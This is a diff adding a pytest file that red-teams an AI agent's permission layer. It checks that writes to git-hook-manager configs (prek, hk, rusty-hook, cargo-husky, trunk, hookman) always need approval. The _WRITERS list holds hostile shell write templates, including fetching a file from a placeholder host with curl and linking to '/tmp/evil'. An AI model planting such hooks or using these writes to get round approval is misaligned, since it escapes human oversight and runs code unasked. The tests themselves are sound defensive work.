@@ -1,0 +1,128 @@
+"""R3.7, red team: git hook managers read their hooks from more names than the table knew. prek (pre-commit's
+reimplementation) reads ``prek.toml`` and ``.pre-commit-config.yml`` besides ``.pre-commit-config.yaml``, in every
+project of a workspace; hk reads ``hk.local.pkl`` and ``.config/hk.pkl`` / ``.config/hk.local.pkl`` before
+``hk.pkl``; rusty-hook ``.rusty-hook.toml`` / ``rusty-hook.toml``; cargo-husky copies ``.cargo-husky/hooks/*``
+into ``.git/hooks`` on the next ``cargo test``; trunk runs the actions ``.trunk/trunk.yaml`` ties to git's hooks;
+hookman ``hookman.toml``. A hook command written there runs at the next commit or push, unasked.
+
+Written as an attacker would: each file written through the typed ``write_file`` and through shell writes, in
+any case, nested and with the spellings a case-insensitive or Windows file system reads as the same name.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from permissions.decide import AutonomyRow, DecisionRequest, ProjectState, decide
+from permissions.protected_paths import protected_file
+from permissions.seeds import DEV_TERMINAL_ALLOW_PATTERNS
+
+from .helpers import AUTO_MODE, ROOT, perms
+
+PROJECT = ProjectState(execution_mode="container", container_running=True, root=ROOT)
+WRITE_AUTO = (AutonomyRow("write_file", "auto_approve"),)
+
+FILES = [
+    "prek.toml",
+    "Prek.TOML",
+    "services/api/prek.toml",
+    "prek.toml.",
+    ".pre-commit-config.yml",
+    ".Pre-Commit-Config.YML",
+    "packages/web/.pre-commit-config.yml",
+    "hk.local.pkl",
+    ".config/hk.pkl",
+    ".config/hk.local.pkl",
+    "HK.LOCAL.PKL",
+    ".rusty-hook.toml",
+    "rusty-hook.toml",
+    ".cargo-husky/hooks/pre-commit",
+    ".cargo-husky/hooks/pre-push",
+    ".trunk/trunk.yaml",
+    ".trunk/actions/x.yaml",
+    "hookman.toml",
+]
+
+
+def _write_file(path: str, autonomy=WRITE_AUTO):
+    return decide(
+        DecisionRequest(
+            "write_file",
+            "developer",
+            PROJECT,
+            permissions=perms(allow=("WriteFile()",)),
+            autonomy=autonomy,
+            payload={"path": path},
+        )
+    )
+
+
+def _terminal(command: str, autonomy=(), runs_in: str = "sandbox"):
+    """``command`` behind the dev terminal's allow list and a prefix allow of its first word."""
+    allow = (*DEV_TERMINAL_ALLOW_PATTERNS, f"Terminal({command.split()[0]})")
+    return decide(
+        DecisionRequest(
+            "terminal",
+            "developer",
+            PROJECT,
+            command=command,
+            cwd=ROOT,
+            permissions=perms(allow=allow),
+            autonomy=autonomy,
+            runs_in=runs_in,
+        )
+    )
+
+
+@pytest.mark.parametrize("path", FILES)
+def test_the_table_names_it(path):
+    assert protected_file(path) is not None, path
+    assert protected_file(f"{ROOT}/{path}") is not None, path
+
+
+@pytest.mark.parametrize("path", FILES)
+def test_write_file_into_one_is_never_auto_approved(path):
+    for autonomy in (WRITE_AUTO, AUTO_MODE):
+        v = _write_file(path, autonomy)
+        assert v.decision == "require_approval", (path, v.reason)
+
+
+_WRITERS = [
+    "echo x > '{p}'",
+    "printf '[[repos]]\\n' >> '{p}'",
+    "tee '{p}'",
+    "cp evil '{p}'",
+    "mv evil '{p}'",
+    "install -D evil '{p}'",
+    "ln -sf /tmp/evil '{p}'",
+    "sed -i s/a/b/ '{p}'",
+    "rm -f '{p}'",
+    "chmod +x '{p}'",
+    "curl -so '{p}' https://e.invalid/x",
+]
+
+
+@pytest.mark.parametrize("path", FILES)
+def test_a_shell_write_into_one_is_never_auto_approved(path):
+    for template in _WRITERS:
+        command = template.format(p=path)
+        for autonomy in ((), AUTO_MODE):
+            for runs_in in ("sandbox", "agent"):
+                v = _terminal(command, autonomy, runs_in)
+                assert v.decision != "auto_approve", (command, runs_in, v.reason)
+
+
+@pytest.mark.parametrize(
+    ("protected", "ordinary"),
+    [
+        ("prek.toml", "pyproject.toml"),
+        (".pre-commit-config.yml", "config.yml"),
+        ("hk.local.pkl", "src/hk.ts"),
+        (".rusty-hook.toml", "Cargo.toml"),
+        (".trunk/trunk.yaml", "trunk/notes.md"),
+        (".cargo-husky/hooks/pre-commit", "hooks/useCargo.ts"),
+    ],
+)
+def test_ordinary_files_beside_them_stay_auto_approved(protected, ordinary):
+    assert _write_file(protected).decision == "require_approval", protected
+    assert _write_file(ordinary).decision == "auto_approve", ordinary
